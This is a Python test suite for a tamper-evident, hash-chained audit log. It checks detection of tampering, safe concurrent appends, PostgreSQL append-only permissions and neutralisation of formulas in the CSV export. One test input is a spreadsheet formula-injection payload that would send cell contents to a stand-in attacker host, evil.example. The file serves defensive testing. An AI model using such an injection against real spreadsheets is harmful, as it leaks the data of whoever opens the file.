"""The audit log as a hash chain: verify finds changed, removed and inserted entries; appends never fork;
on PostgreSQL the app's role cannot change or remove entries; the CSV download is safe in a spreadsheet."""

from __future__ import annotations

import sqlite3
import threading

import pytest

from auth.__main__ import main as cli
from store import audit
from store.db import Database


def fill(db: Database, n: int = 5) -> None:
    for i in range(1, n + 1):
        audit.record("login", f"user{i}@test.nl", f"poging {i}", role="ambtenaar", db=db)


def raw(db: Database, sql: str, params=()) -> None:
    """Tampering as someone with the database file in hand would do it, outside the app."""
    con = sqlite3.connect(db.path)
    con.execute(sql, params)
    con.commit()
    con.close()


@pytest.fixture
def sqlite_db(tmp_path) -> Database:
    db = Database(f"sqlite:///{tmp_path / 'store.sqlite'}")
    db.migrate()
    return db


def test_entries_form_a_chain_that_verifies(db):
    fill(db, 4)
    rows = db.query("SELECT seq, prev_hash, row_hash FROM audit_log ORDER BY seq")
    assert [r["seq"] for r in rows] == [1, 2, 3, 4]
    assert [r["prev_hash"] for r in rows[1:]] == [r["row_hash"] for r in rows[:-1]]
    check = audit.verify(db)
    assert check.ok and check.entries == 4 and check.head_seq == 4 and check.head_hash == rows[-1]["row_hash"]


def test_a_changed_entry_is_named(sqlite_db):
    fill(sqlite_db)
    raw(sqlite_db, "UPDATE audit_log SET username = 'iemand-anders' WHERE seq = 3")
    check = audit.verify(sqlite_db)
    assert not check.ok
    assert "de inhoud van regel 3" in check.problem and check.entries == 2


def test_a_removed_entry_is_named(sqlite_db):
    fill(sqlite_db)
    raw(sqlite_db, "DELETE FROM audit_log WHERE seq = 2")
    check = audit.verify(sqlite_db)
    assert not check.ok and "ontbreekt regel 2" in check.problem


def test_a_rewritten_chain_tail_and_a_cut_tail_are_caught_with_an_earlier_hash(sqlite_db):
    fill(sqlite_db, 3)
    noted = audit.verify(sqlite_db).head_hash
    fill(sqlite_db, 2)
    assert audit.verify(sqlite_db, expect=noted).ok
    raw(sqlite_db, "DELETE FROM audit_log WHERE seq >= 3")  # the newest entries removed: a shorter valid chain
    assert audit.verify(sqlite_db).ok
    check = audit.verify(sqlite_db, expect=noted)
    assert not check.ok and "opgegeven hash" in check.problem


def test_entries_from_before_the_chain_are_sealed_by_entry_one(sqlite_db):
    raw(sqlite_db, "INSERT INTO audit_log (entry_id, at, event, username, role, detail) "
                   "VALUES ('old1', '2020-01-01T00:00:00+00:00', 'login', 'oud@test.nl', NULL, 'van voor de keten')")
    fill(sqlite_db, 2)
    check = audit.verify(sqlite_db)
    assert check.ok and check.legacy == 1 and check.entries == 2
    raw(sqlite_db, "UPDATE audit_log SET detail = 'anders' WHERE entry_id = 'old1'")
    check = audit.verify(sqlite_db)
    assert not check.ok and "regel 1" in check.problem and "oudere regels" in check.problem


def test_cli_verify_exits_non_zero_and_names_the_first_broken_entry(sqlite_db, capsys):
    fill(sqlite_db, 3)
    assert cli(["--store", sqlite_db.url, "audit", "--verify"]) == 0
    assert "in orde: 3 regels" in capsys.readouterr().out
    raw(sqlite_db, "UPDATE audit_log SET detail = 'verzonnen' WHERE seq = 2")
    assert cli(["--store", sqlite_db.url, "audit", "--verify"]) == 1
    err = capsys.readouterr().err
    assert "aangetast" in err and "regel 2" in err


def test_two_writers_do_not_fork_the_chain(db):
    """Two threads, each with its own connection pool (as two app servers), append at the same time."""
    others = [Database(db.url), Database(db.url)]
    errors: list[BaseException] = []

    def write(d: Database, who: str) -> None:
        try:
            for i in range(25):
                audit.record("upload", who, f"bestand {i}", db=d)
        except BaseException as exc:  # noqa: BLE001  (reported below)
            errors.append(exc)

    threads = [threading.Thread(target=write, args=(d, f"w{n}")) for n, d in enumerate(others)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert [r["seq"] for r in db.query("SELECT seq FROM audit_log ORDER BY seq")] == list(range(1, 51))
    assert audit.verify(db).ok


def test_the_csv_download_neutralises_formulas_typed_as_user_names(sqlite_db):
    audit.record("login_failed", '=HYPERLINK("https://evil.example/?"&A1,"klik")', "onbekende gebruikersnaam",
                 db=sqlite_db)
    audit.record("login_failed", "@SUM(1+1)", "-2+3", db=sqlite_db)
    text = audit.to_csv(audit.entries(role="beheerder", db=sqlite_db)).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("Nummer;Tijd (UTC);Gebeurtenis;Code;Wie;Rol;Details")
    assert "'@SUM(1+1)" in lines[1] and ";'-2+3;" in lines[1] + ";"
    assert lines[2].startswith("1;")  # the entry number stays a number
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"' in lines[2]
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(";"))


# ------------------------------------------------------------------------------------------------
# PostgreSQL: the app's own role may add entries, never change or remove them
# ------------------------------------------------------------------------------------------------


@pytest.mark.postgres
def test_postgresql_app_role_cannot_update_delete_or_truncate_the_log(postgres_server):
    import psycopg

    with psycopg.connect(postgres_server.url(), autocommit=True) as con:
        con.execute("DROP DATABASE IF EXISTS audit_role")
        con.execute("DROP ROLE IF EXISTS msd_app")
        con.execute("CREATE ROLE msd_app LOGIN")  # an ordinary role, not a superuser
        con.execute("CREATE DATABASE audit_role OWNER msd_app")
    url = postgres_server.url("audit_role").replace("postgres@", "msd_app@", 1)
    db = Database(url)
    db.migrate()  # run by the app's role, so it owns the table: the revoke must still hold
    fill(db, 3)
    for sql in ("UPDATE audit_log SET detail = 'x'", "DELETE FROM audit_log", "TRUNCATE audit_log"):
        with pytest.raises(psycopg.errors.InsufficientPrivilege), db.transaction() as tx:
            tx.execute(sql)
    # Even a superuser (who ignores privileges) is stopped by the trigger.
    su = Database(postgres_server.url("audit_role"))
    with pytest.raises(psycopg.errors.InsufficientPrivilege, match="append-only"), su.transaction() as tx:
        tx.execute("DELETE FROM audit_log WHERE seq = 2")
    assert audit.verify(db).ok and audit.verify(db).entries == 3
